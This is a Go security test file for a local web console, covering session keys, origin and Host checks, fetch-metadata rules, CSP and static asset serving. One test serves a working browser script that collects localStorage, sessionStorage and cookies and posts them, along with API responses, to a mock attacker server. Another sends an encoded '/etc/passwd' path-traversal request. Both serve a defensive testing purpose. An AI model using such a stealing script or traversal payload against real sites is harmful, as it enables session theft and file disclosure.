package test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"prairiedusk/internal/api"
	"prairiedusk/internal/app"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// send sends a request as a browser would, without our client and without following where it is sent on to.
func send(t *testing.T, method, address string, change ...func(*http.Request)) (*http.Response, string) {
	request, err := http.NewRequestWithContext(t.Context(), method, address, nil)
	require.NoError(t, err)
	for _, c := range change {
		c(request)
	}
	once := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	response, err := once.Do(request)
	require.NoError(t, err)
	defer response.Body.Close()
	text, err := io.ReadAll(response.Body)
	require.NoError(t, err)
	return response, string(text)
}

// The printed address lets one browser in, once, by a session that is not the token and that no other server can collect.
func TestTheEntryLetsOneBrowserIn(t *testing.T) {
	s := startService(t)
	shows := func(value string) func(*http.Request) {
		return func(r *http.Request) { r.Header.Set("Authorization", value) }
	}
	header := func(name, value string) func(*http.Request) {
		return func(r *http.Request) { r.Header.Set(name, value) }
	}
	exchange := func(key string, change ...func(*http.Request)) (status int, session string) {
		body := func(r *http.Request) {
			r.Body = io.NopCloser(strings.NewReader(`{"key":"` + key + `"}`))
			r.Header.Set("Content-Type", "application/json")
		}
		response, text := send(t, http.MethodPost, s.address+"/api/v1/access/session", append(change, body)...)
		assert.Empty(t, response.Cookies())
		var answer api.Session
		_ = json.Unmarshal([]byte(text), &answer)
		return response.StatusCode, answer.Session
	}
	key := func() string {
		_, key, _ := strings.Cut(s.entry(t), "#")
		return key
	}
	for _, wrong := range []string{"", "none", s.token} {
		status, _ := exchange(wrong)
		assert.Equal(t, http.StatusUnauthorized, status, wrong)
	}
	once := key()
	status, _ := exchange(once, header("Origin", "http://localhost:1"))
	assert.Equal(t, http.StatusForbidden, status, "another page uses no key up")
	status, session := exchange(once)
	require.Equal(t, http.StatusOK, status)
	assert.NotEqual(t, s.token, session)
	status, _ = exchange(once)
	assert.Equal(t, http.StatusUnauthorized, status, "a key works once")

	for _, tt := range []struct {
		name   string
		method string
		path   string
		change []func(*http.Request)
		status int
	}{
		{"the session", "GET", "/book", []func(*http.Request){shows("Bearer " + session)}, 200},
		{"in whatever capitals", "GET", "/book", []func(*http.Request){shows("bEARER " + session)}, 200},
		{"the token", "GET", "/book", []func(*http.Request){shows("bearer " + s.token)}, 200},
		{"without", "GET", "/book", nil, 401},
		{"another", "GET", "/book", []func(*http.Request){shows("Bearer " + strings.Repeat("A", 26))}, 401},
		{"a key", "GET", "/book", []func(*http.Request){shows("Bearer " + key())}, 401},
		{"as a cookie", "GET", "/book", []func(*http.Request){header("Cookie", "prairie-dusk="+session+"; session="+session)}, 401},
		{"from another page", "GET", "/book", []func(*http.Request){shows("Bearer " + session), header("Origin", "http://localhost:1")},
			403},
		{"a form of another page", "PUT", "/book/settings", []func(*http.Request){shows("Bearer " + session), header("Origin", "null")}, 403},
		{"a name that points here", "GET", "/book", []func(*http.Request){shows("Bearer " + session),
			func(r *http.Request) { r.Host = "rebound.example" }}, 421},
		{"a browser lets no other in", "POST", "/access/keys", []func(*http.Request){shows("Bearer " + session)}, 403},
		{"a browser makes no token", "POST", "/access/new-key", []func(*http.Request){shows("Bearer " + session)}, 403},
		{"the head alone", "HEAD", "/book", []func(*http.Request){shows("Bearer " + session)}, 200},
	} {
		response, body := send(t, tt.method, s.address+"/api/v1"+tt.path, tt.change...)
		assert.Equal(t, tt.status, response.StatusCode, tt.name)
		assert.Equal(t, tt.status == 200 && tt.method != "HEAD", strings.Contains(body, "milestones"), tt.name)
		assert.Contains(t, response.Header.Get("Content-Security-Policy"), "default-src 'none'", tt.name)
	}

	// Whoever logs out is out; another token ends all.
	response, _ := send(t, http.MethodDelete, s.address+"/api/v1/access/session", shows("Bearer "+session))
	assert.Equal(t, http.StatusNoContent, response.StatusCode)
	_, second := exchange(key())
	unused := key()
	for session, status := range map[string]int{session: 401, second: 200} {
		response, _ = send(t, http.MethodGet, s.address+"/api/v1/book", shows("Bearer "+session))
		assert.Equal(t, status, response.StatusCode)
	}
	require.NoError(t, s.NewToken(t.Context()))
	token, err := app.Token(s.folder)
	require.NoError(t, err)
	for shown, status := range map[string]int{second: 401, s.token: 401, token: 200} {
		response, _ = send(t, http.MethodGet, s.address+"/api/v1/book", shows("Bearer "+shown))
		assert.Equal(t, status, response.StatusCode)
	}
	status, _ = exchange(unused)
	assert.Equal(t, http.StatusUnauthorized, status)
}

// A link on another page opens the console; whatever else another page asks for is refused.
func TestALinkFromAnotherPage(t *testing.T) {
	s := startService(t)
	follows := func(r *http.Request) {
		r.Header.Set("Sec-Fetch-Site", "cross-site")
		r.Header.Set("Sec-Fetch-Mode", "navigate")
		r.Header.Set("Sec-Fetch-Dest", "document")
	}
	for _, tt := range []struct {
		method, path string
		change       func(*http.Request)
		status       int
	}{
		{"GET", "/how-long?by=site", follows, 200}, {"HEAD", "/how-long", follows, 200}, {"GET", "/enter", follows, 200},
		{"GET", "/api/v1/book", follows, 403}, {"POST", "/how-long", follows, 403},
		{"GET", "/how-long", func(r *http.Request) { follows(r); r.Header.Set("Sec-Fetch-Dest", "iframe") }, 403},
		{"GET", "/how-long", func(r *http.Request) { follows(r); r.Header.Set("Sec-Fetch-Mode", "no-cors") }, 403},
		{"GET", "/how-long", func(r *http.Request) { follows(r); r.Header.Set("Origin", "http://localhost:1") }, 403},
	} {
		response, body := send(t, tt.method, s.address+tt.path, tt.change)
		assert.Equal(t, tt.status, response.StatusCode, tt.method+" "+tt.path)
		assert.Equal(t, tt.status == 200 && tt.method == "GET", strings.Contains(body, `<div id="app">`), tt.method+" "+tt.path)
	}
}

// A second server on the machine gets whatever the browser sends it, and can do nothing with it.
func TestWhatABrowserHoldsIsUselessElsewhere(t *testing.T) {
	s, _ := demoService(t)
	var mutex sync.Mutex
	var heard []string // all that the second server was sent
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text, _ := httputil.DumpRequest(r, true)
		mutex.Lock()
		defer mutex.Unlock()
		heard = append(heard, string(text))
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, `<script>
			fetch('/stolen', {method: 'POST', body: JSON.stringify({local: {...localStorage}, session: {...sessionStorage}, cookie: document.cookie})})
			for (const path of ['/api/v1/book', '/api/v1/orders'])
				fetch('`+s.address+`' + path, {credentials: 'include', mode: 'no-cors'}).then(r => r.text()).then(text => fetch('/read', {method: 'POST', body: text}))
			</script><p id="done">done</p>`)
	}))
	t.Cleanup(thief.Close)
	b := newTab(t)
	b.do(letIn(s.entry(t)), chromedp.Navigate(s.address+"/how-long"))
	b.text(test("reconciliation"), "orders selected")
	session := evaluate[string](b, `localStorage.getItem('prairie-dusk-session')`)
	require.NotEmpty(t, session)
	assert.Empty(t, evaluate[string](b, "document.cookie"))
	assert.NotContains(t, evaluate[string](b, "JSON.stringify(performance.getEntriesByType('navigation').map(e => e.name))"), session)

	b.do(chromedp.Navigate(thief.URL), chromedp.WaitReady("#done"))
	require.Eventually(t, func() bool {
		mutex.Lock()
		defer mutex.Unlock()
		return slices.ContainsFunc(heard, func(text string) bool { return strings.HasPrefix(text, "POST /stolen") })
	}, 10*time.Second, 20*time.Millisecond)
	time.Sleep(300 * time.Millisecond) // for what it may read of ours
	mutex.Lock()
	all := strings.Join(heard, "\n")
	mutex.Unlock()
	assert.NotContains(t, all, session)
	assert.NotContains(t, all, s.token)
	assert.NotContains(t, all, "milestones")
	for _, word := range regexp.MustCompile(`[A-Za-z0-9_=-]{16,}`).FindAllString(all, -1) {
		response, _ := send(t, http.MethodGet, s.address+"/api/v1/book", func(r *http.Request) {
			r.Header.Set("Authorization", "Bearer "+word)
			r.Header.Set("Cookie", "prairie-dusk="+word)
		})
		assert.Equal(t, http.StatusUnauthorized, response.StatusCode, word)
	}

	// Logged out, the browser is locked.
	b.do(chromedp.Navigate(s.address+"/how-long"), chromedp.WaitReady(test("log-out")), press("log-out"))
	b.text("#main", "This page is locked")
	response, _ := send(t, http.MethodGet, s.address+"/api/v1/book",
		func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+session) })
	assert.Equal(t, http.StatusUnauthorized, response.StatusCode)
}

// The page is never taken from a cache, its files are for ever, and its policy allows our script files only.
func TestTheConsolesFiles(t *testing.T) {
	s := startService(t)
	response, page := send(t, http.MethodGet, s.address+"/how-long?by=site")
	assert.Equal(t, 200, response.StatusCode)
	assert.Equal(t, "no-store", response.Header.Get("Cache-Control"))
	policy := response.Header.Get("Content-Security-Policy")
	assert.Contains(t, policy, "script-src 'self';")
	assert.Contains(t, policy, "frame-ancestors 'none'")
	assert.NotRegexp(t, `<script[^>]*>[^<]|\son\w+=`, page, "no script stands in the page")
	assert.NotRegexp(t, `(?:src|href)="(?:https?:)?//`, page, "nothing comes from another host")

	files := regexp.MustCompile(`(?:src|href)="(/assets/[^"]+)"`).FindAllStringSubmatch(page, -1)
	require.NotEmpty(t, files)
	for _, file := range files {
		response, _ := send(t, http.MethodGet, s.address+file[1])
		assert.Equal(t, 200, response.StatusCode, file[1])
		assert.Contains(t, response.Header.Get("Cache-Control"), "immutable", file[1])
		assert.Regexp(t, `javascript|css`, response.Header.Get("Content-Type"), file[1])
	}
	for _, nothing := range []string{"/assets/none.js", "/assets/../index.html/none", "/assets/%2e%2e/%2e%2e/etc/passwd", "/api/v1/none"} {
		response, body := send(t, http.MethodGet, s.address+nothing, func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+s.token) })
		assert.Equal(t, 404, response.StatusCode, nothing)
		assert.NotContains(t, body, "root:")
	}
	response, _ = send(t, http.MethodPost, s.address+"/how-long")
	assert.Equal(t, 404, response.StatusCode)
}
